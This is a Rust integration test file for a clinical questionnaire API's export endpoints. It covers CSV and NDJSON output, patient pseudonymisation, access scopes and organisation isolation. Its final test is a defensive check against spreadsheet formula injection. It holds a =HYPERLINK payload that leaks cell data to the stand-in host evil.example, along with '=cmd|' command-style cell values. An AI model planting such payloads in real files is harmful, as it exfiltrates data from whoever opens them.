use serde_json::{Value, json};

use crate::builders::wai_sr;
use crate::helpers::{TestApp, assert_problem, csv_rows};

async fn seed(app: &TestApp, token: &str) -> Vec<Value> {
    let mut a = wai_sr("alice", Some("enc-a"));
    a["episode"] = json!("ep-1");
    let mut b = wai_sr("bob", Some("enc-b"));
    b["answers"]["1"] = json!(null);
    b["administered_at"] = json!("2026-05-01T08:30:00Z");
    b["clinician"] = json!("dr, \"quoted\"");
    let srs = json!({"instrument": "srs", "patient": "alice", "administered_at": "2026-03-04T15:20:00Z",
        "answers": {"1": 8.7, "2": 9.1, "3": 9.1, "4": 9.1}});
    let mut out = Vec::new();
    for body in [a, b, srs] {
        let res = app.post_json(token, "/v1/responses", body).await;
        assert_eq!(res.status(), 201);
        out.push(res.json::<Value>().await.unwrap());
    }
    out
}

async fn export(app: &TestApp, token: &str, query: &str) -> (reqwest::header::HeaderMap, String) {
    let res = app
        .http
        .get(app.url(&format!("/v1/exports/responses?{query}")))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{query}");
    let headers = res.headers().clone();
    (headers, res.text().await.unwrap())
}

#[tokio::test]
async fn both_formats_carry_the_same_data() {
    let app = TestApp::spawn().await;
    let token = app.token(&["responses:write", "export", "export:identified"]).await;
    let stored = seed(&app, &token).await;

    let (headers, ndjson) = export(&app, &token, "instrument=wai-sr&format=ndjson&pseudonymize=false").await;
    assert_eq!(headers["content-type"], "application/x-ndjson");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .contains("rapport-wai-sr-responses-")
    );
    let lines: Vec<Value> = ndjson.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0], stored[0], "identified NDJSON lines are the response shape");

    let (headers, text) = export(&app, &token, "instrument=wai-sr&format=csv&pseudonymize=false").await;
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    assert!(!text.starts_with('\u{feff}'), "no BOM");
    let header_line = text.lines().next().unwrap();
    assert_eq!(
        header_line,
        "id,instrument,instrument_version,patient,clinician,episode,rater,administered_at,session,status,\
item_1,item_2,item_3,item_4,item_5,item_6,item_7,item_8,item_9,item_10,item_11,item_12,total,mean,pomp,band,\
task_total,task_mean,goal_total,goal_mean,bond_total,bond_mean,prorated,flags,score_error"
    );
    let rows = csv_rows(&text);
    assert_eq!(rows.len(), 2);
    for (row, line) in rows.iter().zip(&lines) {
        assert_eq!(row["id"], line["id"].as_str().unwrap());
        assert_eq!(row["patient"], line["patient"].as_str().unwrap());
        assert_eq!(row["clinician"], line["clinician"].as_str().unwrap_or(""));
        assert_eq!(
            row["total"].parse::<f64>().unwrap(),
            line["score"]["total"].as_f64().unwrap()
        );
        assert_eq!(
            row["task_mean"].parse::<f64>().unwrap(),
            line["score"]["subscales"]["task"]["mean"].as_f64().unwrap()
        );
        assert_eq!(row["prorated"], line["score"]["prorated"].to_string());
        for i in 1..=12 {
            let cell = &row[&format!("item_{i}")];
            match line["answers"].get(i.to_string()) {
                Some(v) => assert_eq!(cell.parse::<f64>().unwrap(), v.as_f64().unwrap()),
                None => assert_eq!(cell, "", "missing is an empty cell"),
            }
        }
    }
    assert_eq!(rows[1]["clinician"], "dr, \"quoted\"", "RFC 4180 quoting round-trips");
    assert_eq!(rows[1]["administered_at"], "2026-05-01T08:30:00Z");
    assert_eq!(rows[1]["item_1"], "");

    // SRS decimals keep their dot and exact totals.
    let (_, srs) = export(&app, &token, "instrument=srs&format=csv&pseudonymize=false").await;
    let rows = csv_rows(&srs);
    assert_eq!((rows[0]["item_1"].as_str(), rows[0]["total"].as_str()), ("8.7", "36"));
    assert_eq!(rows[0]["flags"], "item_below_threshold");

    // gzip when asked for.
    let res = app
        .http
        .get(app.url("/v1/exports/responses?instrument=wai-sr&format=csv"))
        .bearer_auth(&token)
        .header("accept-encoding", "gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["content-encoding"], "gzip");
}

#[tokio::test]
async fn pseudonyms_are_stable_until_rotated() {
    let app = TestApp::spawn().await;
    let token = app.token(&["responses:write", "export", "org:admin"]).await;
    seed(&app, &token).await;
    let (_, first) = export(&app, &token, "instrument=wai-sr").await;
    let (_, second) = export(&app, &token, "instrument=wai-sr").await;
    assert_eq!(first, second);
    let lines: Vec<Value> = first.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let alice = lines[0]["patient"].as_str().unwrap().to_string();
    assert_eq!(alice.len(), 16);
    assert!(alice.chars().all(|c| c.is_ascii_hexdigit()));
    assert_ne!(alice, "alice");
    assert_eq!(lines[0]["episode"].as_str().unwrap().len(), 16);
    assert!(lines[0].get("external_id").is_none(), "external ids are dropped");
    assert!(!first.contains("alice") && !first.contains("enc-a") && !first.contains("dr-9"));
    let (_, csv_text) = export(&app, &token, "instrument=wai-sr&format=csv").await;
    assert_eq!(
        csv_rows(&csv_text)[0]["patient"],
        alice,
        "the same pseudonym in both formats"
    );

    let res = app
        .post_json(&token, "/v1/exports/pseudonym-key/rotate", json!({}))
        .await;
    assert_eq!(res.status(), 200);
    let (_, rotated) = export(&app, &token, "instrument=wai-sr").await;
    let after: Value = serde_json::from_str(rotated.lines().next().unwrap()).unwrap();
    assert_ne!(after["patient"].as_str().unwrap(), alice);
    assert_eq!(after["id"], lines[0]["id"]);
}

#[tokio::test]
async fn identified_exports_need_the_extra_scope_and_filters_apply() {
    let app = TestApp::spawn().await;
    let token = app.token(&["responses:write", "export"]).await;
    seed(&app, &token).await;
    assert_problem(
        app.get(&token, "/v1/exports/responses?instrument=wai-sr&pseudonymize=false")
            .await,
        403,
    )
    .await;
    let reader = app.token(&["responses:read"]).await;
    assert_problem(app.get(&reader, "/v1/exports/responses?instrument=wai-sr").await, 403).await;
    assert_problem(app.get(&token, "/v1/exports/responses").await, 400).await;
    // An instrument the caller cannot see, named in a query, is 404 like any unknown id.
    assert_problem(app.get(&token, "/v1/exports/responses?instrument=nope").await, 404).await;
    assert_problem(app.get(&token, "/v1/exports/dictionary?instrument=nope").await, 404).await;
    assert_problem(
        app.get(&token, "/v1/exports/responses?instrument=wai-sr&format=xlsx")
            .await,
        400,
    )
    .await;

    let (_, from) = export(&app, &token, "instrument=wai-sr&from=2026-04-01T00:00:00Z").await;
    assert_eq!(from.lines().count(), 1);
    let (_, to) = export(&app, &token, "instrument=wai-sr&to=2026-04-01T00:00:00Z").await;
    assert_eq!(to.lines().count(), 1);
    let (_, clinician) = export(&app, &token, "instrument=wai-sr&rater=clinician").await;
    assert_eq!(clinician.lines().count(), 0);
    let (_, v1) = export(&app, &token, "instrument=wai-sr&version=1&status=active").await;
    assert_eq!(v1.lines().count(), 2);

    let admin = app.admin_token().await;
    let events: Value = app.get_json(&admin, "/v1/audit-events?limit=500").await;
    let exports: Vec<&Value> = events["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "responses.exported")
        .collect();
    assert_eq!(exports.len(), 4);
    assert_eq!(exports[0]["detail"]["rows"], 2);
    assert_eq!(exports[0]["detail"]["identified"], false);
}

#[tokio::test]
async fn another_organisations_data_never_appears() {
    let app = TestApp::spawn().await;
    let token = app.token(&["responses:write", "export"]).await;
    seed(&app, &token).await;
    let (_, other) = app.create_org("export-other").await;
    let (_, mine) = export(&app, &other, "instrument=wai-sr").await;
    assert_eq!(mine, "");
    let (_, csv_text) = export(&app, &other, "instrument=wai-sr&format=csv").await;
    assert_eq!(csv_text.lines().count(), 1, "the header only");
}

#[tokio::test]
async fn the_dictionary_describes_every_column() {
    let app = TestApp::spawn().await;
    let token = app.token(&["export"]).await;
    let dict: Value = app.get_json(&token, "/v1/exports/dictionary?instrument=wai-s").await;
    let columns = dict["columns"].as_array().unwrap();
    let names: Vec<&str> = columns.iter().map(|c| c["name"].as_str().unwrap()).collect();
    // v2: `band` follows `pomp`; v3: `score_error` follows `flags`.
    assert_eq!(names.len(), 10 + 12 + 4 + 6 + 2 + 1);
    assert_eq!(names.last(), Some(&"score_error"));
    let item4 = columns.iter().find(|c| c["name"] == "item_4").unwrap();
    assert_eq!(
        (item4["reverse_keyed"].as_bool(), item4["subscale"].as_str()),
        (Some(true), Some("goal"))
    );
    assert_eq!((item4["min"].as_f64(), item4["max"].as_f64()), (Some(1.0), Some(7.0)));
    let total = columns.iter().find(|c| c["name"] == "total").unwrap();
    assert_eq!((total["min"].as_f64(), total["max"].as_f64()), (Some(12.0), Some(84.0)));
    let res = app
        .http
        .get(app.url("/v1/exports/dictionary?instrument=wai-s&format=csv"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    let text = res.text().await.unwrap();
    assert_eq!(csv_rows(&text).len(), names.len());
}

#[tokio::test]
async fn csv_text_cells_cannot_start_a_formula() {
    let app = TestApp::spawn().await;
    let token = app.token(&["responses:write", "export", "export:identified"]).await;
    let prefixes = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
    ];
    for (i, patient) in prefixes.iter().enumerate() {
        let body = serde_json::json!({"instrument": "srs", "patient": patient, "clinician": format!("=cmd|{i}"),
            "administered_at": "2026-03-04T15:20:00Z", "answers": {"1": 9, "2": 9, "3": 9, "4": 9.5}});
        assert_eq!(app.post_json(&token, "/v1/responses", body).await.status(), 201);
    }
    let (_, text) = export(&app, &token, "instrument=srs&format=csv&pseudonymize=false").await;
    let rows = csv_rows(&text);
    assert_eq!(rows.len(), prefixes.len());
    for row in &rows {
        for column in ["patient", "clinician"] {
            let cell = &row[column];
            assert!(cell.starts_with('\''), "{column} cell {cell:?} is neutralised");
            assert!(prefixes.iter().any(|p| cell[1..] == **p) || cell[1..].starts_with("=cmd|"));
        }
        // Numeric columns are never changed.
        assert_eq!(row["total"], "36.5");
    }
    // An independent reader: Python's csv module, as an analyst would load the file.
    let path = std::env::temp_dir().join(format!("rapport-injection-{}.csv", uuid::Uuid::new_v4()));
    std::fs::write(&path, &text).unwrap();
    let script = r#"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
assert len(rows) == 4, rows
for r in rows:
    for c in ("patient", "clinician"):
        assert r[c][0] == "'" and r[c][1] in "=+-@", (c, r[c])
    assert float(r["total"]) == 36.5
print("ok")
"#;
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(&path)
        .output();
    let _ = std::fs::remove_file(&path);
    match out {
        Ok(out) => assert!(
            out.status.success() && String::from_utf8_lossy(&out.stdout).trim() == "ok",
            "python csv check: {}",
            String::from_utf8_lossy(&out.stderr)
        ),
        Err(e) => panic!("python3 is needed for the independent CSV check: {e}"),
    }
}
